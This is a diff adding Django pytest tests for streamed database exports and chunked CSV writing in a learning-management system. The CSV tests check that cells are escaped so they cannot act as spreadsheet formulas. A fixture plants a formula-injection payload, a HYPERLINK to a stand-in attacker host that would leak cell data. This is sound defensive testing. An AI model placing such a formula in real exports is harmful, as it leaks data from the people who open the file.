@@ -363,6 +363,57 @@ def test_export_shows_the_valid_certificate_serial(world, manager_a, standard_te
     assert rows[("Trần Văn Bình", standard_test.title)][16] == ""
 
 
+def test_streamed_export_rows_equal_the_iterators(transactional_db, world, manager_a, standard_test, course,
+                                                   monkeypatch, django_assert_num_queries):
+    """Issue 17: outside a transaction, the export streams its SELECTs (``queries.streamed``) on a connection of
+    its own instead of a server-side cursor. Its rows are the ones Django's iterator gives (the same converters:
+    the local day, the JSON result, the score), in every part (tests, courses, not started), in both languages;
+    and the main connection can write while a stream is open (the job's progress, the export log)."""
+    from django.db import connection
+    from django.utils import translation
+
+    opened = []
+    if connection.vendor == "postgresql":
+        real = connection.get_new_connection
+        monkeypatch.setattr(connection, "get_new_connection", lambda params: opened.append(1) or real(params))
+    rows = queries.export_rows(manager_a, Filters())
+    first = next(rows)
+    manager_a.save(update_fields=["full_name"])  # a write on the main connection, the stream half read
+    assert next(rows) != first
+    rows.close()
+    assert opened or connection.vendor != "postgresql"  # PostgreSQL: the stream had its own connection
+
+    with translation.override("en"):
+        streamed_rows = list(queries.export_rows(manager_a, Filters()))
+        streamed_none = list(queries.export_rows(manager_a, Filters(course=course, status="not_started")))
+    monkeypatch.setattr(queries, "streamed", lambda qs, chunk_size=queries.CHUNK: qs.iterator(chunk_size=chunk_size))
+    with translation.override("en"):
+        assert list(queries.export_rows(manager_a, Filters())) == streamed_rows
+        assert list(queries.export_rows(manager_a, Filters(course=course, status="not_started"))) == streamed_none
+    assert any(row[8] != "" and row[9] != "" for row in streamed_rows)  # scores and levels came through
+    assert streamed_none and all(row[7] == "Not started" for row in streamed_none)
+
+
+def test_an_abandoned_stream_leaves_the_connection_usable(transactional_db, world):
+    """A download closed half-way stops reading the stream (the generator is closed): the next query on the
+    connection works, inside a transaction or not, and chunks smaller than the result change nothing."""
+    from django.db import transaction
+
+    from lms.accounts.models import User
+
+    qs = User.objects.order_by("pk").values_list("pk", "email", "date_joined")
+    assert list(queries.streamed(qs, chunk_size=2)) == list(qs.iterator(chunk_size=2))
+    rows = queries.streamed(qs, chunk_size=2)
+    next(rows)
+    rows.close()
+    assert User.objects.count() == len(list(qs))
+    with transaction.atomic():
+        rows = queries.streamed(qs, chunk_size=2)
+        next(rows)
+        rows.close()
+        assert User.objects.filter(pk__gt=0).exists()
+
+
 # --- Audit 2026-12-04: spreadsheet formulas ---------------------------------------------------------
 
 
@@ -389,6 +440,60 @@ def test_export_cells_are_never_spreadsheet_formulas(tmp_path):
     values = [cell for cell in sheet.iter_rows(min_row=2, max_row=2)][0]
     assert all(cell.data_type != "f" for cell in values)
     assert values[6].value == "'" + title and values[4].value == "+84912000123" and values[9].value == 90.0
+
+
+def test_chunked_csv_is_every_row_written_safely_and_counts_per_chunk():
+    """The CSV writer writes ``ROWS_PER_CHUNK`` rows at a time and searches each chunk once (issue 17): its output
+    is byte for byte every row written through ``_safe`` one by one, whichever rows of a chunk are risky (first,
+    middle, last, none), with line breaks inside quoted cells, and ``on_row`` hears the count after each chunk."""
+    import csv as csv_module
+    import datetime as dt
+    import io
+
+    from reporting.exports import BOM, ROWS_PER_CHUNK, _safe, csv_lines
+
+    def plain(n):
+        return [f"C-{n}", "Phường Một", f"Nguyễn Văn {n}", f"hv{n}@example.vn", "+84912000123", dt.date(2026, 12, 4),
+                "Dòng một\nDòng hai, có dấu phẩy", 75.5 if n % 2 else None, ""]
+
+    rows = [plain(n) for n in range(ROWS_PER_CHUNK * 3 + 7)]
+    for at in (0, ROWS_PER_CHUNK + 100, 2 * ROWS_PER_CHUNK - 1, len(rows) - 1):
+        rows[at][2] = '=HYPERLINK("http://evil.example/?"&C2)'
+    rows[ROWS_PER_CHUNK + 5][6] = "Dòng một\n=1+1"  # a line break then "=": a false alarm, written the same
+    counts = []
+    text = b"".join(csv_lines(rows, on_row=counts.append)).decode("utf-8")
+    expected = io.StringIO()
+    writer = csv_module.writer(expected)
+    writer.writerow(["x"])  # the header is the language's; compared after it
+    for row in rows:
+        writer.writerow(_safe(row))
+    assert text.startswith(BOM)
+    body = text.split("\r\n", 1)[1]
+    assert body == expected.getvalue().split("\r\n", 1)[1]
+    assert counts == [ROWS_PER_CHUNK, 2 * ROWS_PER_CHUNK, 3 * ROWS_PER_CHUNK, len(rows)]
+    parsed = list(csv_module.reader(io.StringIO(body)))
+    assert len(parsed) == len(rows) and parsed[0][2].startswith("'=") and parsed[1][2] == "Nguyễn Văn 1"
+    assert parsed[ROWS_PER_CHUNK + 5][6] == "Dòng một\n=1+1" and parsed[3][4] == "+84912000123"
+
+
+def test_chunked_csv_search_misses_no_risky_cell_in_random_rows():
+    """The one search per chunk is only a filter before ``_safe``: over random cells made of the characters that
+    matter (signs, digits, spaces, dots, quotes, commas, line breaks, tabs, "=", "@"), the output is always every
+    row written through ``_safe`` (a miss would leave a formula in a manager's spreadsheet)."""
+    import csv as csv_module
+    import io
+    import random
+
+    from reporting.exports import _safe, csv_lines
+
+    rng = random.Random(17)
+    alphabet = ["+", "-", "=", "@", "\t", "\r", "\n", '"', ",", " ", ".", "1", "8", "4", "a", "ư"]
+    rows = [[("".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5))) if rng.random() < 0.9
+              else rng.choice([None, -1.5, 3, 2.0])) for _ in range(4)] for _ in range(3000)]
+    for row in rows:  # one row per call: in a chunk of many, another row's alarm would hide a miss
+        expected = io.StringIO()
+        csv_module.writer(expected).writerow(_safe(row))
+        assert b"".join(csv_lines([row])).decode("utf-8").split("\r\n", 1)[1] == expected.getvalue(), row
 
 
 def test_a_test_never_approved_is_not_offered_to_managers(db):
